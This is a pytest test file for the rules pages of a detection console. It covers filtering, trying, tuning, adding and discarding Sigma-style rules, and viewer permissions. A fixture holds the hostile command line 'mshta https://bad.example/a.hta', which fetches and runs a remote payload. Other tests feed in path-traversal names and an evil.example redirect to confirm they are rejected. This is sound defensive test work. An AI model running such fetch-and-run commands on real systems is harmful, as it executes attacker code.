"""The pages of rules: listed, explained, tuned, tried and added by those who may."""

import json

import pytest

from sekisho.app.console import tuning_file
from tests.app.web.small_desk import Browser, app_of, desk_with

MSHTA = {"Image": "C:\\x\\mshta.exe", "CommandLine": "mshta https://bad.example/a.hta"}
NEW = """title: {title}
id: 00000000-0000-4000-8000-00000000000{n}
status: test
description: A program of this name ran.
references: [https://example.com/]
author: CSIRT
date: 2026-01-01
logsource: {{product: windows, category: process_creation}}
detection: {{selection: {{Image|endswith: '\\odd.exe'}}, condition: selection}}
falsepositives: [Unknown]
level: high
"""


@pytest.fixture(scope="module")
def app(tmp_path_factory, lab_result):
    desk, _ = desk_with(tmp_path_factory.mktemp("desk"), lab_result)
    return app_of(desk)


@pytest.fixture(scope="module")
def anna(app):
    return Browser(app)


@pytest.fixture
def hit(app):
    return app.state.desk.database.one("SELECT * FROM findings WHERE incident != '' AND event LIKE 'e%' LIMIT 1")


def test_the_list_is_filtered(anna, hit):
    assert hit["title_en"] in anna.get(f"/rules?hit=true&q={hit['rule_id']}").text
    assert "No rule is like this." in anna.get("/rules?q=nosuchrule").text
    assert anna.get("/rules?level=loud").status_code == 422
    assert "T1059" in anna.get("/rules?attack=t1059&sort=hits&page=1").text


def test_a_rule_tells_what_it_found(anna, hit):
    page = anna.get(f"/rules/{hit['rule_id']}").text
    assert hit["incident"] in page
    assert "data-chart" in page
    assert anna.get("/rules/nosuch").status_code == 404


def test_coverage_is_shown_and_given_as_a_layer(anna):
    assert "Initial access" in anna.get("/rules/coverage").text
    layer = anna.get("/rules/coverage/layer")
    assert layer.json()["domain"] == "enterprise-attack"
    assert "attachment" in layer.headers["content-disposition"]


def test_a_stored_event_is_tried_and_matches(anna, hit):
    place = f"/rules/try?rule={hit['rule_id']}&case={hit['case_id']}&finding={hit['id']}"
    page = anna.get(place).text
    row = anna.desk.database.one("SELECT * FROM findings WHERE id = ?", hit["id"])
    assert row["rule_id"] in page
    event = json.dumps({one["field"]: one["value"] for one in json.loads(row["evidence"])})
    answer = anna.submit("/rules/try", rule=hit["rule_id"], event=event)
    assert answer.status_code == 200
    assert "of 1 events match" in answer.text


def test_a_pasted_rule_says_what_is_missing(anna):
    told = anna.submit("/rules/try", text=NEW.format(title="Odd", n=1), event=json.dumps(MSHTA))
    assert "does not match" in told.text
    assert "0 of 1 events match" in told.text
    wrong = anna.submit("/rules/try", text="title: [", event="{}")
    assert wrong.status_code == 400


def test_a_rule_is_switched_off_and_on_again(anna, app, hit):
    place = f"/rules/{hit['rule_id']}"
    assert anna.submit(f"{place}/tune", action="disable", reason="").status_code == 400
    assert anna.submit(f"{place}/tune", action="disable", reason="too loud").status_code == 303
    assert "switched off" in anna.get(place).text
    held = tuning_file.text(anna.desk.database)
    assert hit["rule_id"] in held
    stale = anna.submit("/rules/tuning/remove", number=1, seen="0" * 32)
    assert stale.status_code == 400
    seen = tuning_file.digest(held)
    assert anna.submit("/rules/tuning/remove", number=1, seen=seen, next="https://evil.example").status_code == 303
    assert "Nothing is tuned" in anna.get(place).text


def test_the_whole_file_is_kept_only_when_it_can_be_used(anna):
    seen = tuning_file.digest(tuning_file.text(anna.desk.database))
    assert anna.submit("/rules/tuning", text="- rule: any\n", seen=seen).status_code == 400
    assert not tuning_file.text(anna.desk.database)


def test_a_viewer_looks_and_changes_nothing(app, hit):
    vera = Browser(app, "vera")
    assert "Switch off" not in vera.get(f"/rules/{hit['rule_id']}").text
    assert vera.submit(f"/rules/{hit['rule_id']}/tune", action="disable", reason="x").status_code == 403
    assert vera.submit("/rules/add", text="x").status_code == 403


def test_a_new_rule_is_checked_kept_used_and_taken_away(anna):
    bad = anna.submit(
        "/rules/add", text=NEW.format(title="Odd", n=2).replace("selection}", "nothing}"), keep="yes", name="odd"
    )
    assert "cannot run" in bad.text
    assert not (anna.desk.database.folder / "rules").exists()
    for name in ("../odd.yml", "a/b.yml", ".yml", "x" * 125):
        kept = anna.submit("/rules/add", text=NEW.format(title="Odd Program", n=2), keep="yes", name=name)
        assert kept.status_code == 400
    assert (
        anna.submit("/rules/add", text=NEW.format(title="Odd Program", n=2), keep="yes", name="odd").status_code == 303
    )
    assert "Odd Program" in anna.get("/rules?origin=added").text
    place = "/rules/00000000-0000-4000-8000-000000000002"
    assert "added here" in anna.get(place).text
    assert anna.submit(f"{place}/discard").status_code == 303
    assert anna.get(place).status_code == 404


def test_our_own_rules_are_not_deleted(anna, hit):
    assert anna.submit(f"/rules/{hit['rule_id']}/discard").status_code == 400
    assert anna.get(f"/rules/{hit['rule_id']}").status_code == 200
